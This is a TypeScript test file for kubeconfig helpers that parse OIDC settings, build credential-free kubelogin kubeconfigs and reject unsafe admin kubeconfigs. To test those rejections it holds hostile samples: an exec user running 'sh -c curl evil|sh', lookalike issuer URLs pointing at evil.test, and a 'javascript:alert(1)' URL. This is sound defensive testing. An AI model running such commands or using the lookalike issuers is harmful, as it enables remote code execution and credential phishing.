import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { Cluster } from "../k8s/types.ts";
import {
  adminKubeconfigFromSecret,
  allowedKubeconfigIssuers,
  caFromSecret,
  issuerAllowed,
  kubeconfigServer,
  oidcKubeconfig,
  oidcSettingsOf,
  unsafeKubeconfigReason,
} from "./kubeconfig.ts";

const cluster = (variables: { name: string; value: unknown }[]): Cluster => ({
  apiVersion: "cluster.x-k8s.io/v1beta2",
  kind: "Cluster",
  metadata: { name: "web", namespace: "team-a" },
  spec: {
    controlPlaneEndpoint: { host: "203.0.113.7", port: 6443 },
    topology: { classRef: { name: "c" }, version: "v1.35.3", variables },
  },
});

describe("oidcSettingsOf", () => {
  it("reads scs2's oidcConfig and scs's oidc_config", () => {
    expect(
      oidcSettingsOf(
        cluster([
          {
            name: "oidcConfig",
            value: { issuerURL: "https://id.example.com", clientID: "kube", groupsClaim: "groups" },
          },
        ]),
      ),
    ).toEqual({
      issuerUrl: "https://id.example.com",
      clientId: "kube",
      usernameClaim: null,
      groupsClaim: "groups",
    });
    expect(
      oidcSettingsOf(
        cluster([
          {
            name: "oidc_config",
            value: {
              issuer_url: "https://dex.k8s.scs.community",
              client_id: "kubectl",
              username_claim: "email",
            },
          },
        ]),
      ),
    ).toMatchObject({
      issuerUrl: "https://dex.k8s.scs.community",
      clientId: "kubectl",
      usernameClaim: "email",
    });
  });

  it("has none without the variable, without a client, or for a non-https issuer", () => {
    expect(oidcSettingsOf(cluster([]))).toBeNull();
    expect(oidcSettingsOf(cluster([{ name: "oidcConfig", value: { issuerURL: "https://x" } }]))).toBeNull();
    expect(
      oidcSettingsOf(
        cluster([{ name: "oidcConfig", value: { issuerURL: "javascript:alert(1)", clientID: "k" } }]),
      ),
    ).toBeNull();
    expect(
      oidcSettingsOf(cluster([{ name: "oidcConfig", value: { issuerURL: "http://id", clientID: "k" } }])),
    ).toBeNull();
  });
});

describe("oidcKubeconfig", () => {
  it("is a kubelogin exec kubeconfig without any credential", () => {
    const text = oidcKubeconfig({
      clusterName: "web",
      server: kubeconfigServer(cluster([])) ?? "",
      certificateAuthorityData: "Q0E=",
      oidc: { issuerUrl: "https://id.example.com", clientId: "kube", usernameClaim: null, groupsClaim: null },
    });
    const doc = parse(text);
    expect(doc.kind).toBe("Config");
    expect(doc.clusters[0].cluster).toEqual({
      server: "https://203.0.113.7:6443",
      "certificate-authority-data": "Q0E=",
    });
    expect(doc.users[0].user.exec.command).toBe("kubectl");
    expect(doc.users[0].user.exec.args).toEqual([
      "oidc-login",
      "get-token",
      "--oidc-issuer-url=https://id.example.com",
      "--oidc-client-id=kube",
    ]);
    expect(doc["current-context"]).toBe(doc.contexts[0].name);
    expect(text).not.toMatch(/client-key-data|client-certificate-data|token:|password/);
  });
});

describe("admin kubeconfig from the Secret", () => {
  it("decodes key value and refuses what is not a kubeconfig", () => {
    const kc = "apiVersion: v1\nkind: Config\nclusters:\n- name: web\n  cluster: {server: https://x}\n";
    expect(adminKubeconfigFromSecret({ value: Buffer.from(kc).toString("base64") })).toBe(kc);
    expect(adminKubeconfigFromSecret({ value: Buffer.from("hello").toString("base64") })).toBeNull();
    expect(adminKubeconfigFromSecret({})).toBeNull();
    expect(caFromSecret({ "tls.crt": "Q0E=", "tls.key": "S0VZ" })).toBe("Q0E=");
  });
});

describe("kubeconfig safety", () => {
  it("allows kubelogin only towards the platform's issuers, compared exactly", () => {
    const allowed = allowedKubeconfigIssuers({
      OIDC_ISSUER: "https://login.example.com/realms/kaas/",
      KAAS_KUBECONFIG_ISSUERS: " https://sso.example.org , ",
    });
    expect(allowed).toEqual(["https://login.example.com/realms/kaas", "https://sso.example.org"]);
    expect(issuerAllowed("https://login.example.com/realms/kaas", allowed)).toBe(true);
    expect(issuerAllowed("https://login.example.com/realms/kaas/", allowed)).toBe(true);
    for (const lookalike of [
      "https://login.example.com.evil.test/realms/kaas",
      "https://login.example.com/realms/kaas-evil",
      "https://login.example.com/realms",
      "https://logın.example.com/realms/kaas",
      "https://LOGIN.example.com/realms/kaas",
      "http://login.example.com/realms/kaas",
      "https://sso.example.org@evil.test",
    ]) {
      expect(issuerAllowed(lookalike, allowed), lookalike).toBe(false);
    }
    expect(allowedKubeconfigIssuers({})).toEqual([]);
  });

  const kubeconfig = (user: Record<string, unknown>) =>
    JSON.stringify({ kind: "Config", clusters: [], users: [{ name: "admin", user }] });

  it("refuses admin kubeconfigs whose users run a program", () => {
    expect(
      unsafeKubeconfigReason(kubeconfig({ "client-certificate-data": "x", "client-key-data": "y" })),
    ).toBeNull();
    expect(
      unsafeKubeconfigReason(kubeconfig({ exec: { command: "sh", args: ["-c", "curl evil|sh"] } })),
    ).toMatch(/runs a program \(exec\)/);
    expect(unsafeKubeconfigReason(kubeconfig({ "auth-provider": { name: "gcp" } }))).toMatch(/auth-provider/);
    expect(unsafeKubeconfigReason("users: [")).toMatch(/cannot be read/);
  });
});
